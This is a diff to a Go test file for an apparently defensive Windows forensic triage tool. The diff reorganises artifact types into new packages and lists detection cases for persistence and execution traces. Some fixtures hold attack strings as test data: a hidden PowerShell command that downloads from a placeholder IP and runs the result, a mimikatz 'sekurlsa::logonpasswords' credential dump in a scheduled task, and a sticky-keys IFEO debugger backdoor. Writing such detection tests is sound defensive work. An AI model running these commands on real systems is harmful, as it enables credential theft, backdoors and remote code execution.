@@ -9,13 +9,19 @@ import (
 	"time"
 
 	"github.com/artifactdump/artifactdump/artifacts"
+	"github.com/artifactdump/artifactdump/artifacts/activity"
+	"github.com/artifactdump/artifactdump/artifacts/catalogue"
+	"github.com/artifactdump/artifactdump/artifacts/communication"
 	"github.com/artifactdump/artifactdump/artifacts/evidence"
+	"github.com/artifactdump/artifactdump/artifacts/execution"
 	"github.com/artifactdump/artifactdump/artifacts/findings"
+	"github.com/artifactdump/artifactdump/artifacts/persistence"
+	"github.com/artifactdump/artifactdump/artifacts/system"
 )
 
 // rec wraps data as a run would.
 func rec(name string, d artifacts.Decoded) artifacts.Record {
-	for _, a := range artifacts.All() {
+	for _, a := range catalogue.All() {
 		if a.Name == name {
 			return artifacts.Record{ID: name, Artifact: a, Data: d, From: artifacts.Locator{Path: `C:\x`, State: artifacts.Live}}
 		}
@@ -42,18 +48,18 @@ func at(minutes ...int) []time.Time {
 func pf(path string, runs []time.Time, files ...string) artifacts.Record {
 	files = append([]string{`\VOLUME{1}\WINDOWS\SYSTEM32\NTDLL.DLL`}, files...)
 	name := strings.ToUpper(path[strings.LastIndexByte(path, '\\')+1:])
-	return rec("prefetch", artifacts.Prefetch{
+	return rec("prefetch", execution.Prefetch{
 		Executable: name, ImagePath: `\VOLUME{1}` + strings.ToUpper(path), HashStatus: "verified", RunCount: uint32(len(runs)), LastRuns: runs, Files: files,
 	})
 }
 
-func auto(mechanism, image, args string) artifacts.Autostart {
-	return artifacts.Autostart{Mechanism: mechanism, Scope: "machine", Image: image, Arguments: args, Command: strings.TrimSpace(image + " " + args), Written: day}
+func auto(mechanism, image, args string) persistence.Entry {
+	return persistence.Entry{Mechanism: mechanism, Scope: "machine", Image: image, Arguments: args, Command: strings.TrimSpace(image + " " + args), Written: day}
 }
 
 // fill sets what a record says of a program that starts by itself. The
 // embedded struct has no exported name; its fields do.
-func fill[T any](r T, a artifacts.Autostart) T {
+func fill[T any](r T, a persistence.Entry) T {
 	dst, src := reflect.ValueOf(&r).Elem(), reflect.ValueOf(a)
 	for i := range src.NumField() {
 		dst.FieldByName(src.Type().Field(i).Name).Set(src.Field(i))
@@ -62,19 +68,19 @@ func fill[T any](r T, a artifacts.Autostart) T {
 }
 
 func runKey(image, args string) artifacts.Record {
-	return rec("runkeys", fill(artifacts.RunKey{Name: "Value", List: "Run"}, auto("Run", image, args)))
+	return rec("runkeys", fill(persistence.RunKey{Name: "Value", List: "Run"}, auto("Run", image, args)))
 }
 
-func service(name, image string, more func(*artifacts.Service)) artifacts.Record {
-	s := fill(artifacts.Service{Name: name, ImagePath: image, ServiceType: 0x10, StartType: 2}, auto("Service", image, ""))
+func service(name, image string, more func(*persistence.Service)) artifacts.Record {
+	s := fill(persistence.Service{Name: name, ImagePath: image, ServiceType: 0x10, StartType: 2}, auto("Service", image, ""))
 	if more != nil {
 		more(&s)
 	}
 	return rec("services", s)
 }
 
-func task(path, image, args string, more func(*artifacts.Task)) artifacts.Record {
-	t := fill(artifacts.Task{TaskPath: path}, auto("Scheduled task", image, args))
+func task(path, image, args string, more func(*persistence.Task)) artifacts.Record {
+	t := fill(persistence.Task{TaskPath: path}, auto("Scheduled task", image, args))
 	if more != nil {
 		more(&t)
 	}
@@ -82,38 +88,38 @@ func task(path, image, args string, more func(*artifacts.Task)) artifacts.Record
 }
 
 // byUser makes a task one that a person made.
-func byUser(runAs, level string) func(*artifacts.Task) {
-	return func(t *artifacts.Task) {
-		t.Author, t.Principals = `TEST\daniel`, []artifacts.TaskPrincipal{{User: runAs, RunLevel: level}}
+func byUser(runAs, level string) func(*persistence.Task) {
+	return func(t *persistence.Task) {
+		t.Author, t.Principals = `TEST\daniel`, []persistence.TaskPrincipal{{User: runAs, RunLevel: level}}
 	}
 }
 
-func com(class string) func(*artifacts.Task) {
-	return func(t *artifacts.Task) {
+func com(class string) func(*persistence.Task) {
+	return func(t *persistence.Task) {
 		t.Kind, t.Class, t.Command = "com", class, "{01234567-89ab-cdef-0123-456789abcdef} data"
 	}
 }
 
-func dated(s string) func(*artifacts.Task) { return func(t *artifacts.Task) { t.Date = s } }
+func dated(s string) func(*persistence.Task) { return func(t *persistence.Task) { t.Date = s } }
 
-func hook(mechanism, name, value, image string) artifacts.Hook {
-	return fill(artifacts.Hook{Name: name, Value: value}, auto(mechanism, image, ""))
+func hook(mechanism, name, value, image string) persistence.Hook {
+	return fill(persistence.Hook{Name: name, Value: value}, auto(mechanism, image, ""))
 }
 
 func setting(artifact, name, value string, weak bool) artifacts.Record {
-	return rec(artifact, artifacts.Setting{Setting: name, Value: value, Weak: weak, Meaning: "meaning"})
+	return rec(artifact, system.Setting{Setting: name, Value: value, Weak: weak, Meaning: "meaning"})
 }
 
 func amcache(path, original string) artifacts.Record {
-	return rec("amcachefiles", artifacts.AmcacheFile{Path: path, OriginalName: original})
+	return rec("amcachefiles", execution.AmcacheFile{Path: path, OriginalName: original})
 }
 
 func shim(path, executed string) artifacts.Record {
-	return rec("shimcache", artifacts.Shimcache{Path: path, Executed: executed, Modified: day})
+	return rec("shimcache", execution.Shimcache{Path: path, Executed: executed, Modified: day})
 }
 
-func user(rid uint32, name string, more func(*artifacts.Account)) artifacts.Record {
-	a := artifacts.Account{RID: rid, Name: name, SID: fmt.Sprintf("S-1-5-21-1-2-3-%d", rid)}
+func user(rid uint32, name string, more func(*system.Account)) artifacts.Record {
+	a := system.Account{RID: rid, Name: name, SID: fmt.Sprintf("S-1-5-21-1-2-3-%d", rid)}
 	if more != nil {
 		more(&a)
 	}
@@ -121,7 +127,7 @@ func user(rid uint32, name string, more func(*artifacts.Account)) artifacts.Reco
 }
 
 func group(rid uint32, members ...string) artifacts.Record {
-	return rec("groups", artifacts.Group{RID: rid, Name: "Administrators", Members: members})
+	return rec("groups", system.Group{RID: rid, Name: "Administrators", Members: members})
 }
 
 func deleted(r artifacts.Record) artifacts.Record {
@@ -132,15 +138,15 @@ func deleted(r artifacts.Record) artifacts.Record {
 // log is an event log that begins with a record at a time; one of 320 chunks
 // is full.
 func log(name string, first uint64, oldest time.Time, chunks int) artifacts.Record {
-	e := artifacts.EvtxFile{Log: name, First: first, Last: first + 999, Next: first + 1000, Records: 1000, Oldest: oldest, Newest: day.AddDate(0, 0, 2), Chunks: chunks, Unused: 2, Size: int64(4096 + (chunks+2)*65536)}
+	e := system.EvtxFile{Log: name, First: first, Last: first + 999, Next: first + 1000, Records: 1000, Oldest: oldest, Newest: day.AddDate(0, 0, 2), Chunks: chunks, Unused: 2, Size: int64(4096 + (chunks+2)*65536)}
 	if chunks == 320 {
 		e.Unused, e.OldestChunk = 0, 7
 	}
 	return rec("evtxfiles", e)
 }
 
-func with(r artifacts.Record, f func(*artifacts.EvtxFile)) artifacts.Record {
-	e := r.Data.(artifacts.EvtxFile)
+func with(r artifacts.Record, f func(*system.EvtxFile)) artifacts.Record {
+	e := r.Data.(system.EvtxFile)
 	f(&e)
 	r.Data = e
 	return r
@@ -181,95 +187,95 @@ var cases = []struct {
 	{"M-08", 0, records{pf(`\Program Files\app\a.exe`, at(0), `\VOLUME{1}\PERFLOGS\DBGHELP.DLL`)}, records{pf(`\Program Files\app\a.exe`, at(0), `\VOLUME{1}\WINDOWS\SYSTEM32\DBGHELP.DLL`)}},
 	{"P-01", findings.High, records{runKey(`C:\Users\Public\a.exe`, "")}, records{runKey(`C:\Program Files\A\a.exe`, ""), runKey(`C:\Users\u\AppData\Local\Microsoft\OneDrive\OneDrive.exe`, "/background")}},
 	{"P-02", findings.Critical, records{runKey(`C:\Windows\System32\mshta.exe`, `javascript:close()`)}, records{runKey(`C:\Windows\System32\rundll32.exe`, `"C:\Program Files\Driver\d.dll",Startup`)}},
-	{"P-03", findings.Critical, records{rec("winlogon", fill(artifacts.Winlogon{Name: "Userinit", Item: 2, Value: "a,b"}, auto("Winlogon Userinit", `C:\ProgramData\b.exe`, "")))}, records{rec("winlogon", fill(artifacts.Winlogon{Name: "Userinit", Item: 1, Value: `C:\Windows\system32\userinit.exe,`}, auto("Winlogon Userinit", `C:\Windows\system32\userinit.exe`, "")))}},
-	{"P-04", findings.Critical, records{rec("ifeo", artifacts.IFEO{Hook: hook("IFEO Debugger", "Debugger", "cmd.exe", `C:\Windows\System32\cmd.exe`), Target: "sethc.exe", Accessibility: true})}, records{rec("ifeo", artifacts.IFEO{Hook: hook("IFEO Debugger", "Debugger", "", `C:\Tools\PROCEXP.EXE`), Target: "taskmgr.exe"})}},
-	{"P-05", findings.High, records{of("u", rec("shellfolders", artifacts.ShellFolder{Name: "Startup", Resolved: `C:\Users\Public\s`, Redirected: true}))}, records{of("u", rec("shellfolders", artifacts.ShellFolder{Name: "Startup", Resolved: `C:\Users\v\Startup`, Redirected: true, Foreign: true}))}},
-	{"P-06", findings.High, records{of("u", rec("startupfolder", fill(artifacts.StartupFile{Path: `C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.vbs`, Kind: "file"}, auto("Startup folder", `C:\x.vbs`, ""))))},
-		records{of("u", rec("startupfolder", fill(artifacts.StartupFile{Path: `C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk`, Kind: "shortcut"}, auto("Startup folder", `C:\Program Files\A\a.exe`, "")))),
-			rec("startupfolder", artifacts.StartupFile{Path: `\a.vbs`, Kind: "file", PlaceUnknown: true})}},
-	{"P-07", findings.High, records{rec("windowsload", fill(artifacts.WindowsLoad{Name: "Load"}, auto("Windows Load", `C:\Program Files\a.exe`, "")))}, records{rec("windowsload", artifacts.WindowsLoad{Name: "Load"})}},
-	{"P-08", findings.Medium, records{rec("runkeys", fill(artifacts.RunKey{Name: "V"}, artifacts.Autostart{Mechanism: "Run", Image: `C:\Program Files\A\a.exe`, Command: "a", FilePresent: "no"}))}, records{rec("runkeys", fill(artifacts.RunKey{Name: "V"}, artifacts.Autostart{Mechanism: "Run", Image: `C:\Program Files\A\a.exe`, Command: "a", FilePresent: "yes"}))}},
+	{"P-03", findings.Critical, records{rec("winlogon", fill(persistence.Winlogon{Name: "Userinit", Item: 2, Value: "a,b"}, auto("Winlogon Userinit", `C:\ProgramData\b.exe`, "")))}, records{rec("winlogon", fill(persistence.Winlogon{Name: "Userinit", Item: 1, Value: `C:\Windows\system32\userinit.exe,`}, auto("Winlogon Userinit", `C:\Windows\system32\userinit.exe`, "")))}},
+	{"P-04", findings.Critical, records{rec("ifeo", persistence.IFEO{Hook: hook("IFEO Debugger", "Debugger", "cmd.exe", `C:\Windows\System32\cmd.exe`), Target: "sethc.exe", Accessibility: true})}, records{rec("ifeo", persistence.IFEO{Hook: hook("IFEO Debugger", "Debugger", "", `C:\Tools\PROCEXP.EXE`), Target: "taskmgr.exe"})}},
+	{"P-05", findings.High, records{of("u", rec("shellfolders", persistence.ShellFolder{Name: "Startup", Resolved: `C:\Users\Public\s`, Redirected: true}))}, records{of("u", rec("shellfolders", persistence.ShellFolder{Name: "Startup", Resolved: `C:\Users\v\Startup`, Redirected: true, Foreign: true}))}},
+	{"P-06", findings.High, records{of("u", rec("startupfolder", fill(persistence.StartupFile{Path: `C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.vbs`, Kind: "file"}, auto("Startup folder", `C:\x.vbs`, ""))))},
+		records{of("u", rec("startupfolder", fill(persistence.StartupFile{Path: `C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk`, Kind: "shortcut"}, auto("Startup folder", `C:\Program Files\A\a.exe`, "")))),
+			rec("startupfolder", persistence.StartupFile{Path: `\a.vbs`, Kind: "file", PlaceUnknown: true})}},
+	{"P-07", findings.High, records{rec("windowsload", fill(persistence.WindowsLoad{Name: "Load"}, auto("Windows Load", `C:\Program Files\a.exe`, "")))}, records{rec("windowsload", persistence.WindowsLoad{Name: "Load"})}},
+	{"P-08", findings.Medium, records{rec("runkeys", fill(persistence.RunKey{Name: "V"}, persistence.Entry{Mechanism: "Run", Image: `C:\Program Files\A\a.exe`, Command: "a", FilePresent: "no"}))}, records{rec("runkeys", fill(persistence.RunKey{Name: "V"}, persistence.Entry{Mechanism: "Run", Image: `C:\Program Files\A\a.exe`, Command: "a", FilePresent: "yes"}))}},
 	{"P-09", 0, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Program Files\A\a.exe`, at(5))}, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Program Files\A\a.exe`, at(500))}},
 	{"P-10", 0, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Windows\System32\cmd.exe`, at(5))}, records{runKey(`C:\Program Files\A\a.exe`, ""), pf(`\Program Files\A\a.exe`, at(5))}},
-	{"P-11", findings.Critical, records{service("evil", `C:\Windows\System32\cmd.exe`, func(s *artifacts.Service) { s.ImagePath = `%COMSPEC% /c start x` })}, records{service("Spooler", `C:\Windows\System32\spoolsv.exe`, nil)}},
+	{"P-11", findings.Critical, records{service("evil", `C:\Windows\System32\cmd.exe`, func(s *persistence.Service) { s.ImagePath = `%COMSPEC% /c start x` })}, records{service("Spooler", `C:\Windows\System32\spoolsv.exe`, nil)}},
 	{"P-11", findings.Critical, records{service("evil", `C:\Users\Public\a.exe`, nil)}, records{service("WinDefend", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe`, nil)}},
 	{"P-12", findings.Critical, records{task(`\x`, `C:\TMP\mim.exe`, `sekurlsa::logonpasswords`, nil)}, records{task(`\Microsoft\Windows\Defrag\ScheduledDefrag`, `C:\Windows\System32\defrag.exe`, `-c -h`, nil)}},
-	{"P-12", findings.Medium, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *artifacts.Task) { t.Triggers = []artifacts.TaskTrigger{{Interval: "PT1M"}} })}, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *artifacts.Task) { t.Triggers = []artifacts.TaskTrigger{{Interval: "PT1H"}} })}},
+	{"P-12", findings.Medium, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *persistence.Task) { t.Triggers = []persistence.TaskTrigger{{Interval: "PT1M"}} })}, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *persistence.Task) { t.Triggers = []persistence.TaskTrigger{{Interval: "PT1H"}} })}},
 	{"P-11", findings.High, records{pf(`\Users\Public\a.exe`, at(0)), service("QwRtZpLk", `C:\ProgramData\Vendor\a.exe`, nil)}, records{pf(`\Users\Public\a.exe`, at(3000)), service("QwRtZpLk", `C:\Program Files\A\a.exe`, nil)}},
 	{"P-11", findings.Medium, records{pf(`\Users\Public\a.exe`, at(0)), service("xkqzwvtr", `C:\Program Files\A\a.exe`, nil)}, records{pf(`\Users\Public\a.exe`, at(0)), service("PlugPlay", `C:\Program Files\A\a.exe`, nil)}},
 	{"P-12", findings.Medium, records{task(`\sync`, `C:\ProgramData\Vendor\a.exe`, "", byUser("S-1-5-18", ""))}, records{task(`\sync`, `C:\ProgramData\Vendor\a.exe`, "", byUser(`TEST\daniel`, "LeastPrivilege")), task(`\Vendor\sync`, `C:\ProgramData\Vendor\a.exe`, "", byUser("S-1-5-18", ""))}},
-	{"P-12", findings.Low, records{task(`\tuner`, `C:\Program Files\T\t.exe`, "", byUser(`TEST\daniel`, "HighestAvailable"))}, records{task(`\tuner`, `C:\Program Files\T\t.exe`, "", func(t *artifacts.Task) { byUser("S-1-5-18", "")(t); t.Author = "Vendor Corporation" })}},
-	{"P-12", findings.High, records{task(`\Microsoft\Windows\x`, "", "", com("yes")), of("u", rec("comhijack", artifacts.COMHijack{Hook: fill(artifacts.Hook{}, artifacts.Autostart{Scope: "user", Command: `C:\a.dll`, Image: `C:\a.dll`}), CLSID: "{01234567-89AB-CDEF-0123-456789ABCDEF}"}))},
-		records{task(`\Microsoft\Windows\x`, "", "", com("yes")), of("u", rec("comhijack", artifacts.COMHijack{Hook: fill(artifacts.Hook{}, artifacts.Autostart{Scope: "user", Command: `C:\a.dll`, Image: `C:\a.dll`}), CLSID: "{11111111-89AB-CDEF-0123-456789ABCDEF}"}))}},
+	{"P-12", findings.Low, records{task(`\tuner`, `C:\Program Files\T\t.exe`, "", byUser(`TEST\daniel`, "HighestAvailable"))}, records{task(`\tuner`, `C:\Program Files\T\t.exe`, "", func(t *persistence.Task) { byUser("S-1-5-18", "")(t); t.Author = "Vendor Corporation" })}},
+	{"P-12", findings.High, records{task(`\Microsoft\Windows\x`, "", "", com("yes")), of("u", rec("comhijack", persistence.COMHijack{Hook: fill(persistence.Hook{}, persistence.Entry{Scope: "user", Command: `C:\a.dll`, Image: `C:\a.dll`}), CLSID: "{01234567-89AB-CDEF-0123-456789ABCDEF}"}))},
+		records{task(`\Microsoft\Windows\x`, "", "", com("yes")), of("u", rec("comhijack", persistence.COMHijack{Hook: fill(persistence.Hook{}, persistence.Entry{Scope: "user", Command: `C:\a.dll`, Image: `C:\a.dll`}), CLSID: "{11111111-89AB-CDEF-0123-456789ABCDEF}"}))}},
 	{"P-12", findings.Medium, records{task(`\x`, "", "", com("no"))}, records{task(`\x`, "", "", com("unknown"))}},
-	{"P-12", findings.Low, records{task(`\x`, `C:\Program Files\A\a.exe`, "", dated("2020-01-01T10:00:00")), rec("osinfo", artifacts.OSInfo{Installed: day.AddDate(-1, 0, 0)})}, records{task(`\x`, `C:\Program Files\A\a.exe`, "", dated("2026-03-07T02:00:00")), rec("osinfo", artifacts.OSInfo{Installed: day.AddDate(-1, 0, 0)})}},
+	{"P-12", findings.Low, records{task(`\x`, `C:\Program Files\A\a.exe`, "", dated("2020-01-01T10:00:00")), rec("osinfo", system.OSInfo{Installed: day.AddDate(-1, 0, 0)})}, records{task(`\x`, `C:\Program Files\A\a.exe`, "", dated("2026-03-07T02:00:00")), rec("osinfo", system.OSInfo{Installed: day.AddDate(-1, 0, 0)})}},
 	{"P-12", findings.Low, records{task(`\x`, `C:\Program Files\A\a.exe`, "", dated("2026-02-27T10:00:00"))}, records{task(`\Microsoft\x`, `C:\Program Files\A\a.exe`, "", dated("2006-02-27T10:00:00"))}}, // another day than its file
-	{"P-12b", findings.High, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *artifacts.Task) { t.XMLSHA256, t.Actions = strings.Repeat("a", 64), []string{"a"} }), rec("taskcache", artifacts.TaskCache{View: "task", TaskPath: `\x`, Hash: strings.Repeat("b", 64), Actions: []string{"b"}})},
-		records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *artifacts.Task) { t.XMLSHA256 = strings.Repeat("a", 64) }), rec("taskcache", artifacts.TaskCache{View: "task", TaskPath: `\x`, Hash: strings.Repeat("a", 64)})}},
-	{"P-13", findings.High, records{of("u", rec("comhijack", artifacts.COMHijack{Hook: hook("COM server", "", "", `C:\Users\Public\a.dll`), CLSID: "{1}", Kind: "InprocServer32", Shadows: true}))}, records{of("u", rec("comhijack", artifacts.COMHijack{Hook: hook("COM server", "", "", `C:\Users\u\AppData\Local\Microsoft\OneDrive\x.dll`), CLSID: "{1}", Kind: "InprocServer32", Shadows: true}))}},
-	{"P-14", findings.High, records{of("u", rec("screensaver", fill(artifacts.Screensaver{}, auto("Screen saver", `C:\Users\Public\a.scr`, ""))))}, records{of("u", rec("screensaver", fill(artifacts.Screensaver{}, auto("Screen saver", `C:\Windows\System32\Mystify.scr`, ""))))}},
-	{"P-15", findings.High, records{rec("shims", artifacts.Shim{Database: "{1}", Target: "a.exe"})}, records{rec("appcompatflags", artifacts.AppCompatLayer{Path: `C:\Program Files\a.exe`})}},
-	{"P-16", findings.High, records{rec("wmi", fill(artifacts.WMI{Kind: "consumer", Class: "CommandLineEventConsumer", Name: "x"}, auto("WMI consumer", `C:\a.exe`, "")))}, records{rec("wmi", artifacts.WMI{Kind: "consumer", Class: "NTEventLogEventConsumer", Name: "SCM Event Log Consumer", Default: true})}},
-	{"P-17", 0, records{rec("startupapproved", artifacts.StartupApproved{Name: "x", List: "Run", Disabled: true})}, records{rec("startupapproved", artifacts.StartupApproved{Name: "x", List: "Run"})}},
-	{"P-18", findings.High, records{rec("runkeys", fill(artifacts.RunKey{Name: "x", List: "Run"}, artifacts.Autostart{Mechanism: "Run", Scope: "new users", Command: "a", Image: `C:\Program Files\a.exe`}))}, records{rec("runkeys", fill(artifacts.RunKey{Name: "x", List: "Run"}, artifacts.Autostart{Mechanism: "Run", Scope: "new users", Command: `C:\Windows\SysWOW64\OneDriveSetup.exe /thfirstsetup`, Image: `C:\Windows\SysWOW64\OneDriveSetup.exe`}))}},
-	{"P-19", findings.High, records{rec("profiler", artifacts.Profiler{Hook: hook(".NET profiler", "COR_PROFILER_PATH", `C:\a.dll`, `C:\a.dll`), Variable: "COR_PROFILER_PATH"})}, records{rec("environment", artifacts.Environment{Hook: artifacts.Hook{Name: "Path", Default: true}, Folder: `C:\Windows\System32`})}},
+	{"P-12b", findings.High, records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *persistence.Task) { t.XMLSHA256, t.Actions = strings.Repeat("a", 64), []string{"a"} }), rec("taskcache", persistence.TaskCache{View: "task", TaskPath: `\x`, Hash: strings.Repeat("b", 64), Actions: []string{"b"}})},
+		records{task(`\x`, `C:\Program Files\A\a.exe`, "", func(t *persistence.Task) { t.XMLSHA256 = strings.Repeat("a", 64) }), rec("taskcache", persistence.TaskCache{View: "task", TaskPath: `\x`, Hash: strings.Repeat("a", 64)})}},
+	{"P-13", findings.High, records{of("u", rec("comhijack", persistence.COMHijack{Hook: hook("COM server", "", "", `C:\Users\Public\a.dll`), CLSID: "{1}", Kind: "InprocServer32", Shadows: true}))}, records{of("u", rec("comhijack", persistence.COMHijack{Hook: hook("COM server", "", "", `C:\Users\u\AppData\Local\Microsoft\OneDrive\x.dll`), CLSID: "{1}", Kind: "InprocServer32", Shadows: true}))}},
+	{"P-14", findings.High, records{of("u", rec("screensaver", fill(persistence.Screensaver{}, auto("Screen saver", `C:\Users\Public\a.scr`, ""))))}, records{of("u", rec("screensaver", fill(persistence.Screensaver{}, auto("Screen saver", `C:\Windows\System32\Mystify.scr`, ""))))}},
+	{"P-15", findings.High, records{rec("shims", persistence.Shim{Database: "{1}", Target: "a.exe"})}, records{rec("appcompatflags", execution.AppCompatLayer{Path: `C:\Program Files\a.exe`})}},
+	{"P-16", findings.High, records{rec("wmi", fill(persistence.WMI{Kind: "consumer", Class: "CommandLineEventConsumer", Name: "x"}, auto("WMI consumer", `C:\a.exe`, "")))}, records{rec("wmi", persistence.WMI{Kind: "consumer", Class: "NTEventLogEventConsumer", Name: "SCM Event Log Consumer", Default: true})}},
+	{"P-17", 0, records{rec("startupapproved", persistence.StartupApproved{Name: "x", List: "Run", Disabled: true})}, records{rec("startupapproved", persistence.StartupApproved{Name: "x", List: "Run"})}},
+	{"P-18", findings.High, records{rec("runkeys", fill(persistence.RunKey{Name: "x", List: "Run"}, persistence.Entry{Mechanism: "Run", Scope: "new users", Command: "a", Image: `C:\Program Files\a.exe`}))}, records{rec("runkeys", fill(persistence.RunKey{Name: "x", List: "Run"}, persistence.Entry{Mechanism: "Run", Scope: "new users", Command: `C:\Windows\SysWOW64\OneDriveSetup.exe /thfirstsetup`, Image: `C:\Windows\SysWOW64\OneDriveSetup.exe`}))}},
+	{"P-19", findings.High, records{rec("profiler", persistence.Profiler{Hook: hook(".NET profiler", "COR_PROFILER_PATH", `C:\a.dll`, `C:\a.dll`), Variable: "COR_PROFILER_PATH"})}, records{rec("environment", persistence.Environment{Hook: persistence.Hook{Name: "Path", Default: true}, Folder: `C:\Windows\System32`})}},
 	{"X-01", findings.High, records{pf(`\Users\Public\gone.exe`, at(0))}, records{pf(`\Users\Public\here.exe`, at(0))}},
 	{"X-02", findings.High, records{pf(`\PerfLogs\a.exe`, at(0))}, records{pf(`\Program Files\A\a.exe`, at(0)), pf(`\Windows\System32\a.exe`, at(0))}},
 	{"X-03", findings.High, records{pf(`\Users\u\Downloads\mimikatz.exe`, at(0))}, records{pf(`\Program Files\7-Zip\7z.exe`, at(0))}},
 	{"X-04", findings.High, records{pf(`\Windows\PSEXESVC.EXE`, at(0, 5))}, records{pf(`\Windows\explorer.exe`, at(0))}},
-	{"X-05", findings.Medium, records{of("u", rec("sysinternals", artifacts.Sysinternals{Tool: "PsExec", Accepted: true, Written: day}))}, records{of("u", rec("muicache", artifacts.MuiCache{Path: `C:\Program Files\a.exe`}))}},
+	{"X-05", findings.Medium, records{of("u", rec("sysinternals", execution.Sysinternals{Tool: "PsExec", Accepted: true, Written: day}))}, records{of("u", rec("muicache", execution.MuiCache{Path: `C:\Program Files\a.exe`}))}},
 	{"X-06", findings.Medium, records{pf(`\Windows\System32\whoami.exe`, at(0)), pf(`\Windows\System32\ipconfig.exe`, at(3)), pf(`\Windows\System32\net.exe`, at(5)), pf(`\Windows\System32\nltest.exe`, at(20))},
 		records{pf(`\Windows\System32\whoami.exe`, at(0)), pf(`\Windows\System32\net.exe`, at(3)), pf(`\Windows\System32\net1.exe`, at(3)), pf(`\Windows\System32\ipconfig.exe`, at(100)), pf(`\Windows\System32\nltest.exe`, at(200))}},
 	{"X-07", 0, records{pf(`\Windows\System32\mshta.exe`, at(0))}, records{pf(`\Windows\System32\calc.exe`, at(0))}},
 	{"X-08", findings.High, records{pf(`\Windows\System32\rundll32.exe`, at(0), `\VOLUME{1}\USERS\PUBLIC\A.DLL`)}, records{pf(`\Windows\System32\rundll32.exe`, at(0), `\VOLUME{1}\PROGRAM FILES\DRIVER\A.DLL`)}},
-	{"X-09", findings.Critical, records{of("u", rec("runmru", artifacts.RunMRU{Command: `powershell -w hidden -c "iwr http://192.0.2.1/a|iex"`}))}, records{of("u", rec("runmru", artifacts.RunMRU{Command: "notepad"})), of("u", rec("runmru", artifacts.RunMRU{Command: `\\fileserver\public`}))}},
-	{"X-10", findings.High, records{of("u", rec("trustrecords", artifacts.TrustRecord{Kind: "document", Path: `%USERPROFILE%/Downloads/a.docm`, Macros: true}))}, records{of("u", rec("trustrecords", artifacts.TrustRecord{Kind: "document", Path: `%USERPROFILE%/Downloads/a.docm`, Editing: true}))}},
+	{"X-09", findings.Critical, records{of("u", rec("runmru", activity.RunMRU{Command: `powershell -w hidden -c "iwr http://192.0.2.1/a|iex"`}))}, records{of("u", rec("runmru", activity.RunMRU{Command: "notepad"})), of("u", rec("runmru", activity.RunMRU{Command: `\\fileserver\public`}))}},
+	{"X-10", findings.High, records{of("u", rec("trustrecords", activity.TrustRecord{Kind: "document", Path: `%USERPROFILE%/Downloads/a.docm`, Macros: true}))}, records{of("u", rec("trustrecords", activity.TrustRecord{Kind: "document", Path: `%USERPROFILE%/Downloads/a.docm`, Editing: true}))}},
 	{"X-11", 0, records{pf(`\Users\Public\svchost.exe`, at(0)), pf(`\Program Files\A\a.exe`, at(5))}, records{pf(`\Users\Public\svchost.exe`, at(0)), pf(`\Program Files\A\a.exe`, at(50))}},
-	{"X-12", 0, records{rec("consentstore", artifacts.Consent{Capability: "microphone", App: `C:\Users\Public\a.exe`, Start: day})}, records{rec("consentstore", artifacts.Consent{Capability: "microphone", App: `C:\Program Files\Zoom\zoom.exe`, Start: day})}},
-	{"X-13", 0, records{of("u", rec("userassist", artifacts.UserAssist{Name: "a", Path: `C:\Users\Public\a.exe`, Runs: 14, Seeded: true, Kind: "program"}))}, records{of("u", rec("userassist", artifacts.UserAssist{Name: "a", Path: `C:\Program Files\a.exe`, Runs: 14, Kind: "program"}))}},
+	{"X-12", 0, records{rec("consentstore", execution.Consent{Capability: "microphone", App: `C:\Users\Public\a.exe`, Start: day})}, records{rec("consentstore", execution.Consent{Capability: "microphone", App: `C:\Program Files\Zoom\zoom.exe`, Start: day})}},
+	{"X-13", 0, records{of("u", rec("userassist", execution.UserAssist{Name: "a", Path: `C:\Users\Public\a.exe`, Runs: 14, Seeded: true, Kind: "program"}))}, records{of("u", rec("userassist", execution.UserAssist{Name: "a", Path: `C:\Program Files\a.exe`, Runs: 14, Kind: "program"}))}},
 	{"D-01", findings.Medium, records{pf(`\Users\Public\stomped.exe`, at(0))}, records{pf(`\Users\Public\extracted.exe`, at(0)), pf(`\Program Files\A\stomped.exe`, at(0))}},
 	{"D-01", findings.Medium, records{pf(`\PerfLogs\collected.exe`, at(0)), pf(`\Windows\System32\cmd.exe`, at(0))}, records{pf(`\PerfLogs\collected.exe`, at(0))}}, // nothing shows that the source keeps parts of seconds
 	{"D-01", findings.Low, records{shim(`C:\Users\Public\a.exe`, "yes")}, records{shim(`C:\Program Files\A\a.exe`, "yes")}},
-	{"D-01", findings.Low, records{pf(`\Users\Public\a.exe`, at(0)), rec("osinfo", artifacts.OSInfo{Installed: day.AddDate(0, 1, 0)})}, records{pf(`\Users\Public\a.exe`, at(0)), rec("osinfo", artifacts.OSInfo{Installed: day.AddDate(-1, 0, 0)})}},
+	{"D-01", findings.Low, records{pf(`\Users\Public\a.exe`, at(0)), rec("osinfo", system.OSInfo{Installed: day.AddDate(0, 1, 0)})}, records{pf(`\Users\Public\a.exe`, at(0)), rec("osinfo", system.OSInfo{Installed: day.AddDate(-1, 0, 0)})}},
 	{"D-02", findings.Medium, records{shim(`C:\Windows\System32\older.exe`, "no")}, records{shim(`C:\Windows\System32\newer.exe`, "no")}},
-	{"D-03", 0, records{rec("amcachefiles", artifacts.AmcacheFile{Path: `C:\Users\Public\a.exe`, Linked: "03/05/2026 00:00:00"}), pf(`\Users\Public\a.exe`, at(0, -4000))}, records{rec("amcachefiles", artifacts.AmcacheFile{Path: `C:\Users\Public\a.exe`, Linked: "01/05/2020 00:00:00"}), pf(`\Users\Public\a.exe`, at(0, -4000))}},
